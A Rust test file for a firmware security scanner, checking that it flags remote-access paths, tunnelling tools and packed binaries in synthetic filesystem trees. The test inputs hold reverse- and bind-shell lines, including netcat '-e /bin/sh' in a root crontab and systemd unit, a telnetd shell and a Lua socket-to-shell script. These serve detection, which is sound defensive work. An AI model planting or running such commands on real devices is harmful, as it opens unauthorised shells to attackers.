//! Programs recognised whatever they are called, through the whole pipeline: each kind of recognition with a tree that is
//! recognised and one beside it that is not.
use cranescope::baseline::Baselines;
use cranescope::extract::examine_text;
use cranescope::judge::{Finding, Knowledge, Policy, Severity, TEST_GROUND, judge};

fn findings(tree: &str) -> Vec<Finding> {
    let knowledge = Knowledge::load(&[]).unwrap();
    let (scene, inventory, gaps) = examine_text(&format!("{TEST_GROUND}\n{tree}"));
    judge(&knowledge, &Baselines::default(), &Policy::default(), "2026-01-01", &scene, &inventory, &gaps).findings
}

/// The paths in and out that a tree gives, with rung and what was observed.
fn paths(tree: &str) -> Vec<String> {
    let ways = findings(tree).into_iter().filter(|f| f.rule == "remote-access-path");
    ways.map(|f| format!("{} {:?}: {}", f.subject, f.rung.unwrap(), f.observed)).collect()
}

fn hex(bytes: &[u8]) -> String {
    bytes.iter().map(|b| format!("{b:02x}")).collect()
}

/// The smallest ELF that is read, and these bytes behind it.
fn elf(content: &[u8]) -> String {
    let header = "7f454c4602010100000000000000000002003e00010000000000000000000000";
    format!("@{header}{}{}", "0".repeat(64), hex(content))
}

/// An applet is named by how busybox is called; which rule tells of it depends on what it is told to do.
#[test]
fn applets_of_busybox_are_what_they_are_used_as() {
    let high = |tree: &str| -> Vec<String> {
        let found = findings(tree).into_iter().filter(|f| f.severity >= Severity::High);
        found.map(|f| format!("{} {}: {}", f.rule, f.subject, f.observed)).collect()
    };
    for (tree, rule, words) in [
        (
            "/etc/inittab\n    ::respawn:/bin/busybox telnetd -F -l /bin/sh -p 2323\n",
            "clear-text-login-server",
            "telnetd listens on tcp port 2323",
        ),
        (
            "/etc/systemd/system/x.service\n    [Service]\n    ExecStart=/bin/busybox nc -ll -p 99 -e /bin/sh\n    [Install]\n    WantedBy=multi-user.target\n\
             /etc/systemd/system/multi-user.target.wants/x.service -> /etc/systemd/system/x.service\n",
            "service-opens-shell-to-network",
            "/bin/busybox nc",
        ),
        (
            "/etc/crontabs/root\n    * * * * * busybox nc 198.51.100.7 99 -e /bin/sh\n",
            "task-opens-shell-to-network",
            "busybox nc",
        ),
    ] {
        let found = high(tree);
        assert!(found.iter().any(|f| f.starts_with(rule) && f.contains(words)), "{tree}{found:#?}");
    }
    for tree in [
        "/etc/inittab\n    ::respawn:/bin/busybox ntpd -n -p 198.51.100.7\n",
        "/etc/inittab\n    ::sysinit:/bin/busybox mount -a\n    ::respawn:/bin/busybox syslogd -n\n",
    ] {
        assert_eq!(high(tree), Vec::<String>::new(), "{tree}");
    }
}

/// Programs by the strings that they carry, under another name and in no package.
#[test]
fn programs_are_known_by_their_strings() {
    let told = |strings: &str| -> Vec<String> {
        let found = findings(&format!("/opt/io mode=755 {}\n", elf(format!("\0{strings}\0").as_bytes())));
        found.into_iter().filter(|f| f.rung.is_some()).map(|f| format!("{}: {}", f.rule, f.observed)).collect()
    };
    for (strings, rule, words) in [
        ("used when running wvdial from pppd", "cellular-link", "wvdial"),
        ("Smsd v%s started.", "cellular-link", "smstools"),
        ("[Gammu version %s]", "cellular-link", "gammu"),
        (".dns2tcprc", "remote-access-path", "dns2tcp"),
        ("supernode -l <listening port> [-v] [-h]", "remote-access-path", "n2n"),
        ("%s/xrdp-chansrv.%d.log", "remote-access-path", "xrdp"),
        ("htc (%s) %s started with arguments:", "remote-access-path", "/opt/io"),
        ("     -s: Server mode.  Wait for TCP connections on the port.", "remote-access-path", "udptunnel"),
    ] {
        let found = told(strings);
        assert!(found.iter().any(|f| f.starts_with(rule) && f.contains(words)), "{strings}: {found:#?}");
    }
    assert_eq!(told("-s: Server mode. Wait for TCP, started with arguments:"), Vec::<String>::new());
}

#[test]
fn scripts_in_lua_are_known_by_what_they_do() {
    let script = |text: &str| format!("/usr/lib/agent mode=755\n    #!/usr/bin/lua\n{text}");
    for text in [
        "    local s = require('socket').tcp()\n    s:connect('198.51.100.7', 443)\n    os.execute('/bin/sh -i <&3 >&3 2>&3')\n",
        "    local n = require \"nixio\"\n    local s = nixio.bind(nil, 99, \"inet\")\n    nixio.exec(\"/bin/sh\", \"-i\")\n",
    ] {
        let found = paths(&script(text));
        assert!(found.iter().any(|f| f.contains("a socket and a shell")), "{text}{found:#?}");
    }
    for text in [
        "    local s = require('socket').tcp()\n    s:connect('198.51.100.7', 443)\n",
        "    local sys = require 'luci.sys'\n    os.execute('/sbin/reload')\n",
        "    -- require('socket') os.execute('/bin/sh')\n    print(1)\n",
    ] {
        assert_eq!(paths(&script(text)), Vec::<String>::new(), "{text}");
    }
}

#[test]
fn a_program_of_rust_is_known_by_the_crates_that_its_messages_name() {
    let program = |krate: &str| {
        let messages = format!(
            "\0/rustc/9fc6b43126469e3858e2fe86cafb4f0fd5068869/library/core/src/fmt/mod.rs\0\
             /root/.cargo/registry/src/index.crates.io-6f17d22bba15001f/{krate}/src/client.rs\0"
        );
        format!("/opt/io mode=755 {}\n", elf(messages.as_bytes()))
    };
    let found = paths(&program("rathole-0.5.0"));
    assert!(found.iter().any(|f| f.contains("Rust crate rathole 0.5.0") || f.contains("rathole")), "{found:#?}");
    assert_eq!(paths(&program("serde-1.0.200")), Vec::<String>::new());
}

#[test]
fn a_program_of_go_is_known_by_raw_bytes_without_sections() {
    // Build information as Go 1.18 writes it.
    let with = |module: &str, magic: &str| {
        let list = format!("0123456789abcdefpath\t{module}/cmd/x\nmod\t{module}\tv0.1.0\th1:x=\n0123456789abcdef");
        let mut bytes = format!("all goroutines are asleep{}", "\0".repeat(7)).into_bytes();
        bytes.extend(magic.as_bytes());
        bytes[32] = 0xff;
        bytes.extend([8, 2]);
        bytes.extend([0; 16]);
        bytes.extend([8]);
        bytes.extend(b"go1.22.3");
        bytes.push(u8::try_from(list.len() & 0x7f).unwrap() | 0x80);
        bytes.push(u8::try_from(list.len() >> 7).unwrap());
        bytes.extend(list.as_bytes());
        format!("/opt/io mode=755 {}\n", elf(&bytes))
    };
    let found = paths(&with("github.com/fatedier/frp", "? Go buildinf:"));
    assert!(found.iter().any(|f| f.contains("its Go main module is github.com/fatedier/frp")), "{found:#?}");
    assert_eq!(paths(&with("example.com/crane/agent", "? Go buildinf:")), Vec::<String>::new());
}

#[test]
fn settings_are_known_by_their_keys_in_any_file() {
    for (text, words) in [
        (
            "    serverAddr = \"198.51.100.7\"\n    serverPort = 7000\n    [[proxies]]\n    name = \"a\"\n    type = \"tcp\"\n    localPort = 22\n    remotePort = 6000\n",
            "198.51.100.7",
        ),
        (
            "    [Interface]\n    PrivateKey = yAnz5TF+lXXJte14tji3zlMNq+hd2rYUIgJBgB3fBmk=\n    Address = 10.9.0.2/32\n    [Peer]\n    PublicKey = xTIBA5rboUvnH4htodjb6e697QjLERt1NAB4mZqp8Dg=\n    AllowedIPs = 0.0.0.0/0\n    Endpoint = 198.51.100.7:51820\n",
            "198.51.100.7",
        ),
    ] {
        let found = paths(&format!("/etc/odd/cache.dat\n{text}"));
        assert!(found.iter().any(|f| f.contains(words)), "{text}{found:#?}");
    }
    assert_eq!(paths("/etc/odd/cache.dat\n    server = \"198.51.100.7\"\n    interval = 60\n"), Vec::<String>::new());
}

#[test]
fn what_is_packed_could_not_be_identified() {
    let mut random = 1_u64;
    let even: Vec<u8> = (0..65_536)
        .map(|_| {
            random = random.wrapping_mul(6_364_136_223_846_793_005).wrapping_add(1_442_695_040_888_963_407);
            (random >> 56) as u8
        })
        .collect();
    // One segment that is run, of bytes that are all alike in number.
    let header = "7f454c4602010100000000000000000002003e000100000078004000000000004000000000000000000000000000000000000000400038000100000000000000\
                  0100000005000000000000000000000000004000000000000000400000000000780001000000000078000100000000000010000000000000";
    let header = header.replace(char::is_whitespace, "");
    let found = findings(&format!("/opt/io mode=755 @{header}{}\n", hex(&even)));
    let told: Vec<&Finding> = found.iter().filter(|f| f.subject.contains("/opt/io")).collect();
    assert!(told.iter().any(|f| f.observed.contains("could not be identified")), "{told:#?}");
    let plain = findings(&format!("/opt/io mode=755 @{header}{}\n", "90".repeat(65_536)));
    assert!(!plain.iter().any(|f| f.observed.contains("could not be identified")), "{plain:#?}");
}
